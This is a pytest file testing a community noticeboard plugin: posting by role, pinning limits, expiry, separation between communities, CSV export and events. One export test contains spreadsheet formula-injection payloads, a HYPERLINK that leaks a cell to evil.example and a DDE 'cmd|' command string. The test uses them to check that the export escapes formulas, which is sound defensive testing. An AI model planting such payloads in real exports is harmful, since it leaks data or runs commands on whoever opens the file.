"""The notice board, driven by the SDK's test kit as its author would test it."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

import pytest
from linli_noticeboard import plugin as noticeboard
from linli_noticeboard.plugin import Notice, NoticeboardSettings, NoticeList
from linli_sdk import (
    Community,
    Conflict,
    Document,
    Forbidden,
    InvalidInput,
    MemberView,
    NotFound,
    Role,
)
from linli_sdk.testing import PluginKit
from piccolo.engine.sqlite import SQLiteEngine


async def post(kit: PluginKit, author: MemberView, title: str, **fields: object) -> Notice:
    notice = await kit.call("post-notice", {"title": title, **fields}, as_=author)
    assert isinstance(notice, Notice)
    return notice


async def titles(kit: PluginKit, as_: MemberView, **query: object) -> list[str]:
    listed = await kit.call("list-notices", query, as_=as_)
    assert isinstance(listed, NoticeList)
    return [n.title for n in listed.items]


def test_the_manifest_declares_the_board() -> None:
    manifest = noticeboard.manifest
    assert manifest.name == "noticeboard"
    assert manifest.supports("1.1.0") and not manifest.supports("1.0.0")
    assert manifest.settings is NoticeboardSettings
    assert {op.name for op in manifest.operations} == {
        "post-notice",
        "list-notices",
        "remove-notice",
        "export-notices",
    }
    assert manifest.revenue_share is None  # the board never charges


async def test_a_leader_posts_and_members_read(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    neighbour = kit.add_member("Zhao", verified=False)
    notice = await post(kit, leader, "Water off Tuesday", body="9:00-12:00, building 3")
    assert notice.author_id == leader.id
    assert notice.posted_at == kit.clock
    assert notice.expires_at == kit.clock + timedelta(days=30)
    assert not notice.pinned
    listed = await kit.call("list-notices", as_=neighbour)
    assert isinstance(listed, NoticeList)
    (read,) = listed.items
    assert read.id == notice.id
    assert read.title == "Water off Tuesday"
    assert read.body == "9:00-12:00, building 3"
    assert read.posted_at == kit.clock


async def test_pinned_notices_come_first_then_newest_first(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    operator = kit.add_member("Office", Role.OPERATOR)
    resident = kit.add_member("Zhao", Role.RESIDENT)
    await post(kit, leader, "oldest")
    await kit.advance(timedelta(minutes=1))
    await post(kit, operator, "pinned old", pinned=True)
    await kit.advance(timedelta(minutes=1))
    await post(kit, leader, "middle")
    await kit.advance(timedelta(minutes=1))
    await post(kit, leader, "pinned new", pinned=True)
    await kit.advance(timedelta(minutes=1))
    await post(kit, leader, "newest")
    assert await titles(kit, resident) == [
        "pinned new",
        "pinned old",
        "newest",
        "middle",
        "oldest",
    ]
    assert await titles(kit, resident, limit=2) == ["pinned new", "pinned old"]


async def test_residents_cannot_post(kit: PluginKit) -> None:
    resident = kit.add_member("Zhao", Role.RESIDENT)
    with pytest.raises(Forbidden):
        await post(kit, resident, "Selling my bike")
    assert await titles(kit, resident) == []
    assert kit.host.events.published == []


async def test_a_notice_needs_a_title(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    with pytest.raises(InvalidInput, match="title") as empty:
        await post(kit, leader, "")
    assert [e["field"] for e in empty.value.extensions["errors"]] == ["title"]
    with pytest.raises(InvalidInput, match="title"):
        await post(kit, leader, "x" * 121)


async def test_the_pinned_limit_comes_from_the_settings(kit: PluginKit) -> None:
    await kit.enable({"max_pinned": 1})
    leader = kit.add_member("Wang", Role.LEADER)
    first = await post(kit, leader, "Pinned", pinned=True)
    with pytest.raises(Conflict, match="at most 1 notices may be pinned"):
        await post(kit, leader, "Also pinned", pinned=True)
    await post(kit, leader, "Not pinned")  # unpinned notices are not limited
    await kit.call("remove-notice", {"id": first.id}, as_=leader)
    await post(kit, leader, "Pinned again", pinned=True)
    assert await titles(kit, leader) == ["Pinned again", "Not pinned"]


async def test_an_expired_pinned_notice_frees_its_pin(kit: PluginKit) -> None:
    await kit.enable({"max_pinned": 1, "expiry_days": 2})
    leader = kit.add_member("Wang", Role.LEADER)
    await post(kit, leader, "Old news", pinned=True)
    await kit.advance(timedelta(days=2))
    await post(kit, leader, "Today", pinned=True)
    assert await titles(kit, leader) == ["Today"]


async def test_settings_out_of_range_are_refused(kit: PluginKit) -> None:
    with pytest.raises(InvalidInput, match=r"settings\.max_pinned"):
        await kit.enable({"max_pinned": 21})
    with pytest.raises(InvalidInput, match=r"settings\.expiry_days"):
        await kit.enable({"expiry_days": 0})


async def test_expired_notices_are_hidden_unless_asked_for(kit: PluginKit) -> None:
    await kit.enable({"expiry_days": 7})
    leader = kit.add_member("Wang", Role.LEADER)
    resident = kit.add_member("Zhao", Role.RESIDENT)
    await post(kit, leader, "Short-lived")
    await kit.advance(timedelta(days=3))
    await post(kit, leader, "Fresh")
    await kit.advance(timedelta(days=4) - timedelta(seconds=1))
    assert await titles(kit, resident) == ["Fresh", "Short-lived"]
    await kit.advance(timedelta(seconds=1))  # the first notice's expiry is now
    assert await titles(kit, resident) == ["Fresh"]
    assert await titles(kit, resident, include_expired=True) == ["Fresh", "Short-lived"]
    await kit.advance(timedelta(days=30))
    assert await titles(kit, resident) == []


async def test_a_leader_removes_a_notice(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    resident = kit.add_member("Zhao", Role.RESIDENT)
    keep = await post(kit, leader, "Keep")
    gone = await post(kit, leader, "Remove me")
    with pytest.raises(Forbidden):
        await kit.call("remove-notice", {"id": gone.id}, as_=resident)
    removed = await kit.call("remove-notice", {"id": gone.id}, as_=leader)
    assert isinstance(removed, Notice)
    assert (removed.id, removed.title) == (gone.id, "Remove me")
    assert await titles(kit, resident) == ["Keep"]
    with pytest.raises(NotFound):
        await kit.call("remove-notice", {"id": gone.id}, as_=leader)
    assert keep.id != gone.id


async def test_another_communitys_notice_is_not_found(
    kit: PluginKit, linli_kit: Callable[..., PluginKit], notice_db: SQLiteEngine
) -> None:
    river = linli_kit(noticeboard, community=Community(id=2, slug="river-view", name="河景苑"))
    here_leader = kit.add_member("Wang", Role.LEADER)
    there_leader = river.add_member("Liu", Role.LEADER)
    notice = await post(kit, here_leader, "Only for Test")
    with pytest.raises(NotFound, match=f"no notice {notice.id}"):
        await river.call("remove-notice", {"id": notice.id}, as_=there_leader)
    assert await titles(river, there_leader, include_expired=True) == []
    assert await titles(kit, here_leader) == ["Only for Test"]
    await post(river, there_leader, "Only for River View")
    assert await titles(kit, here_leader) == ["Only for Test"]
    assert await titles(river, there_leader) == ["Only for River View"]


async def test_the_pinned_limit_is_per_community(
    kit: PluginKit, linli_kit: Callable[..., PluginKit], notice_db: SQLiteEngine
) -> None:
    river = linli_kit(noticeboard, community=Community(id=2, slug="river-view", name="河景苑"))
    await kit.enable({"max_pinned": 1})
    await river.enable({"max_pinned": 1})
    here = await post(kit, kit.add_member("Wang", Role.LEADER), "Pinned here", pinned=True)
    there = await post(river, river.add_member("Liu", Role.LEADER), "Pinned there", pinned=True)
    assert here.pinned and there.pinned  # one pinned notice each: neither is over the limit


@pytest.mark.parametrize("role", [Role.OPERATOR, Role.AUDITOR])
async def test_operators_and_auditors_export_csv(kit: PluginKit, role: Role) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    await post(kit, leader, "停水通知 Water off", pinned=True)
    await kit.advance(timedelta(minutes=5))
    await post(kit, leader, "Market, Saturday")
    document = await kit.call("export-notices", as_=kit.add_member("Reader", role))
    assert isinstance(document, Document)
    assert document.media_type.startswith("text/csv")
    assert document.filename == "notices-test-community.csv"
    assert document.content.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
    assert rows[0] == ["id", "title", "posted_at", "expires_at", "pinned"]
    assert [(row[1], row[4]) for row in rows[1:]] == [
        ("停水通知 Water off", "True"),
        ("Market, Saturday", "False"),
    ]
    assert datetime.fromisoformat(rows[1][2]) == datetime(2026, 1, 1, tzinfo=UTC)


async def test_an_exported_title_that_is_a_formula_is_shown_as_text(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the new rota")'
    await post(kit, leader, formula)
    await post(kit, leader, "-2+3+cmd|' /C calc'!A0")
    document = await kit.call("export-notices", as_=kit.add_member("Reader", Role.OPERATOR))
    assert isinstance(document, Document)
    rows = list(csv.reader(io.StringIO(document.content.decode("utf-8-sig"))))
    # A leading quote makes a spreadsheet show the cell as text instead of running it.
    assert sorted(row[1] for row in rows[1:]) == sorted(["'" + formula, "'-2+3+cmd|' /C calc'!A0"])
    assert all(row[0].isdigit() for row in rows[1:])  # ids stay plain numbers


@pytest.mark.parametrize("roles", [(Role.LEADER,), (Role.RESIDENT,), ()])
async def test_others_cannot_export(kit: PluginKit, roles: tuple[Role, ...]) -> None:
    with pytest.raises(Forbidden):
        await kit.call("export-notices", as_=kit.add_member("Someone", *roles))


async def test_posting_publishes_notice_posted(kit: PluginKit) -> None:
    leader = kit.add_member("Wang", Role.LEADER)
    notice = await post(kit, leader, "Lift maintenance")
    (event,) = kit.host.events.published
    assert event.type == "noticeboard.notice_posted"
    assert event.module == "noticeboard"
    assert event.community == "test-community"
    assert event.payload == {"id": notice.id, "title": "Lift maintenance"}


async def test_a_refused_post_publishes_nothing(kit: PluginKit) -> None:
    await kit.enable({"max_pinned": 0})
    leader = kit.add_member("Wang", Role.LEADER)
    with pytest.raises(Conflict):
        await post(kit, leader, "Pinned", pinned=True)
    assert kit.host.events.published == []


async def test_seed_demo_posts_a_pinned_welcome(
    notice_db: SQLiteEngine, linli_kit: Callable[..., PluginKit]
) -> None:
    garden = Community(id=5, slug="sunny-garden", name="阳光花园")
    kit = linli_kit(noticeboard, community=garden, now=datetime.now(UTC))
    await kit.seed_demo()
    listed = await kit.call("list-notices", as_=kit.add_member("Zhao"))
    assert isinstance(listed, NoticeList)
    (welcome,) = listed.items
    assert welcome.pinned
    assert "阳光花园" in welcome.title
    assert welcome.author_id is None
    assert welcome.expires_at - welcome.posted_at == timedelta(days=365)
